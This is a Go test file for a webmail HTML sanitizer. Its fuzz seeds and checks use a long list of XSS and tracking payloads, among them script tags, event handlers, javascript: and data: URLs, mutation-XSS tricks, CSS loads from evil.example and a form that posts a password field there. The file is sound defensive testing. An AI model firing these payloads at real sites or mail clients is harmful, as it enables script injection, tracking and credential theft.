package safehtml_test

import (
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/zongler/zongler/internal/kit/mailmsg/safehtml"
)

// vectors are ways in which pages were made to run scripts or to call home.
var vectors = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="javascript:alert(1)">`,
	`<img src=" java	script:alert(1)">`,
	`<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<img/src='https://evil.example/track.gif'/onload=alert(1)>`,
	`<img srcset="https://evil.example/a 2x" src="https://evil.example/b">`,
	`<img src=x:x onerror="&#97;lert(1)">`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><mi xlink:href="javascript:alert(1)">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
	`<title><img title="</title><img src=x onerror=alert(1)>"></title>`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
	`<plaintext><img src=x onerror=alert(1)>`,
	`<template><img src=x onerror=alert(1)></template>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">`,
	`<applet code=x></applet><frameset><frame src="javascript:alert(1)"></frameset>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href="&#106;avascript:alert(1)">x</a>`,
	`<a href="java&#10;script:alert(1)">x</a>`,
	`<a href=" &#14; javascript:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="//evil.example">x</a>`,
	`<a href="https://good.example" onclick="alert(1)" ping="https://evil.example">x</a>`,
	`<area href="javascript:alert(1)"><map name=x></map>`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<link rel=stylesheet href="https://evil.example/x.css">`,
	`<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/x)}</style>`,
	`<p style="background:url(https://evil.example/x)">x</p>`,
	`<p style="background-image:url('javascript:alert(1)')">x</p>`,
	`<p style="width:expression(alert(1))">x</p>`,
	`<p style="width:exp/**/ression(alert(1))">x</p>`,
	`<p style="behavior:url(#default#time2)">x</p>`,
	`<p style="-moz-binding:url(https://evil.example/x#y)">x</p>`,
	`<p style="b\61ckground:u\72l(https://evil.example/x)">x</p>`,
	`<p style="position:fixed;top:0;left:0;z-index:9999;width:100%">x</p>`,
	`<p style="margin-top:-900px">x</p>`,
	`<p style='font-family:"a;background:url(https://evil.example/x)"'>x</p>`,
	`<p style="color:var(--x);width:calc(1px)">x</p>`,
	`<table background="https://evil.example/x"><tr><td background="https://evil.example/y">x</td></tr></table>`,
	`<body onload=alert(1) background="https://evil.example/x">x</body>`,
	`<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>`,
	`<input type=image src="https://evil.example/x" onerror=alert(1)>`,
	`<select><option onfocus=alert(1)></select><textarea autofocus onfocus=alert(1)></textarea>`,
	`<video src="https://evil.example/x" onerror=alert(1)><source src="https://evil.example/y"></video>`,
	`<audio autoplay src="https://evil.example/x"></audio><bgsound src="https://evil.example/x">`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<isindex action="javascript:alert(1)" type=image>`,
	`<div id="getElementById" name="cookie">x</div>`,
	`<img name="body" id="location" src="cid:x">`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<?xml version="1.0"?><?php echo 1 ?><script>alert(1)</script>`,
	`<p title="</p><script>alert(1)</script>">x</p>`,
	`<a href="https://x.example/"onmouseover="alert(1)">x</a>`,
	"<img src=`javascript:alert(1)`>",
	`<IMG """><SCRIPT>alert(1)</SCRIPT>">`,
	`<a href="https://x.example/&quot;onmouseover=&quot;alert(1)">x</a>`,
	`<img data-cid='"onerror="alert(1)' data-remote-src="javascript:alert(1)">`,
	`<img data-remote-src="https://x.example/&quot; onerror=&quot;alert(1)">`,
	"<a href=\"https://x.example/\x00javascript:alert(1)\">x</a>",
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
	`</div></div></td></table><div class="desk">escaped`,
	`<div><div><p>never closed`,
	`<x onclick=alert(1)>x</x><custom-element is=x>`,
	`<p data-fold="quote" data-evil="x" class="desk-button" contenteditable autofocus tabindex=1 onfocus=alert(1)>x</p>`,
	`<p data-fold="&quot;><script>">x</p>`,
	`<input onfocus=alert(1) autofocus><keygen autofocus onfocus=alert(1)>`,
	`<a href="blob:https://x.example/1">x</a><a href="file:///etc/passwd">x</a><a href="ftp://x.example/">x</a>`,
	`<a href="mailto:a@x.example?subject=%0d%0aBcc:all@x.example">x</a>`,
	`<font face="x';background:url(https://evil.example)">x</font>`,
	`<td style="x:1">loose</td>`,
}

func TestCleanTakesAwayWhatActs(t *testing.T) {
	t.Parallel()
	cleaner := safehtml.NewCleaner()
	for _, vector := range vectors {
		got := cleaner.Clean(vector, safehtml.Options{}).HTML
		if fault := harm(got); fault != "" {
			t.Errorf("%s\nbecomes %s\n%s", vector, got, fault)
		}
	}
}

// harm reads HTML as a browser does and says what in it could act; "" is nothing.
func harm(page string) string {
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		return "cannot be parsed"
	}
	for n := range root.Descendants() {
		if n.Type == html.CommentNode || n.Namespace != "" {
			return "a comment, or SVG"
		}
		if n.Type == html.ElementNode {
			if fault := harmOf(n); fault != "" {
				return n.Data + ": " + fault
			}
		}
	}
	return ""
}

var below = regexp.MustCompile(`[: ,(]-[0-9.]`)

func harmOf(n *html.Node) string {
	switch n.Data {
	case "script", "style", "iframe", "object", "embed", "form", "input", "button", "select", "textarea", "link", "meta", "base", "svg", "math",
		"video", "audio", "source", "template", "noscript", "frame", "frameset", "applet", "area", "title", "plaintext", "xmp", "marquee", "details":
		return "must not be"
	}
	for _, a := range n.Attr {
		value := strings.ToLower(strings.TrimSpace(a.Val))
		switch {
		case strings.HasPrefix(a.Key, "on"), a.Key == "id", a.Key == "class", a.Key == "name", a.Key == "srcset", a.Key == "background", a.Key == "ping":
			return a.Key + " must not be"
		case a.Key == "style" && (strings.Contains(value, "url(") || strings.Contains(value, "position") || strings.Contains(value, "expression(") ||
			strings.Contains(value, "var(") || below.MatchString(value) || strings.ContainsAny(value, `\/@`)):
			return "style " + value
		case a.Key == "src" && !strings.HasPrefix(value, "data:image/") || strings.HasPrefix(value, "data:image/svg"):
			return "loads " + value
		case a.Key == "href" && !strings.HasPrefix(value, "https://") && !strings.HasPrefix(value, "http://") && !strings.HasPrefix(value, "mailto:") && !strings.HasPrefix(value, "tel:"):
			return "leads to " + value
		case a.Key == "data-fold" && value != "quote" && value != "signature":
			return "a false mark"
		}
	}
	return ""
}

func TestClean(t *testing.T) {
	t.Parallel()
	own := safehtml.Options{
		CID: func(cid string) (string, bool) { return "/files/" + cid, cid == "logo@x.pl" },
	}
	proxied := safehtml.Options{Remote: func(src string) (string, bool) { return "/proxy?u=" + src, true }}
	cases := []struct {
		name    string
		options safehtml.Options
		in      string
		want    string
	}{
		{"text keeps its letters", own, `<p>Zażółć &lt;gęślą&gt; jaźń &amp; őű</p>`, `<p>Zażółć &lt;gęślą&gt; jaźń &amp; őű</p>`},
		{
			"a link opens elsewhere and shows its host", own, `<a href="https://Sklep.example/x" title="t">x</a>`,
			`<a href="https://Sklep.example/x" title="t" rel="nofollow noopener noreferrer" target="_blank" data-host="sklep.example">x</a>`,
		},
		{"an image from elsewhere waits", own, `<img src="https://x.example/a.png" alt="a">`, `<img data-remote-src="https://x.example/a.png" alt="a">`},
		{
			"an image from elsewhere goes through a proxy when asked for", proxied, `<img src="https://x.example/a.png">`,
			`<img src="/proxy?u=https://x.example/a.png" data-remote-src="https://x.example/a.png">`,
		},
		{"an inline image gets its address", own, `<img src="CID:logo@X.pl">`, `<img src="/files/logo@x.pl" data-cid="logo@x.pl">`},
		{"an inline image is found however it is written", own, `<img src="cid:%3Clogo@X.pl%3E">`, `<img src="/files/logo@x.pl" data-cid="logo@x.pl">`},
		{"an inline image that nobody knows keeps its mark", own, `<img src="cid:gone">`, `<img data-cid="gone">`},
		{"a picture in the page stays", own, `<img src="data:image/png;base64,iVBORw0KGgo=">`, `<img src="data:image/png;base64,iVBORw0KGgo=">`},
		{"colours stay, what moves goes", own, `<p style="COLOR: Red; position:fixed; margin:0 0 1px">x</p>`, `<p style="color:Red;margin:0 0 1px">x</p>`},
		{"hidden text stays hidden", own, `<div style="display:none">preheader</div>`, `<div style="display:none">preheader</div>`},
		{"open elements are closed", own, `<div><b>x`, `<div><b>x</b></div>`},
		{"ends without beginning go", own, `x</div></table>`, `x`},
		{"elements are closed in order", own, `<b><i>x</b></i>`, `<b><i>x</i></b>`},
		{"forms lose their fields, not their words", own, `<form>Imię <input></form>`, `Imię `},
		{"marks of folded text stay", own, `<div class="gmail_quote" data-fold="quote">x</div>`, `<div data-fold="quote">x</div>`},
	}
	cleaner := safehtml.NewCleaner()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			if got := cleaner.Clean(c.in, c.options).HTML; got != c.want {
				t.Errorf("got  %s\nwant %s", got, c.want)
			}
		})
	}
}

func TestCleanTellsOfImages(t *testing.T) {
	t.Parallel()
	got := safehtml.NewCleaner().Clean(`<img src="https://a.example/1"><img src="https://a.example/2"><img src="cid:a"><img src="cid:a"><img src="cid:b">`, safehtml.Options{})
	if got.Remote != 2 || strings.Join(got.CIDs, " ") != "a b" || got.Cut {
		t.Errorf("got %+v", got)
	}
	long := safehtml.NewCleaner().Clean(strings.Repeat("ő", safehtml.MaxInput), safehtml.Options{})
	if !long.Cut || len(long.HTML) > safehtml.MaxInput {
		t.Errorf("a long page: cut %v, %d bytes", long.Cut, len(long.HTML))
	}
}

func FuzzClean(f *testing.F) {
	for _, vector := range vectors {
		f.Add(vector)
	}
	cleaner := safehtml.NewCleaner()
	options := safehtml.Options{CID: func(cid string) (string, bool) { return "data:image/gif;base64,AAAA", len(cid)%2 == 0 }}
	f.Fuzz(func(t *testing.T, page string) {
		if len(page) > 10_000 {
			return
		}
		for _, o := range []safehtml.Options{{}, options} {
			once := cleaner.Clean(page, o).HTML
			if fault := harm(once); fault != "" {
				t.Fatalf("%q\nbecomes %q\n%s", page, once, fault)
			}
			if twice := cleaner.Clean(once, o).HTML; twice != once {
				t.Fatalf("once:  %q\ntwice: %q", once, twice)
			}
		}
	})
}
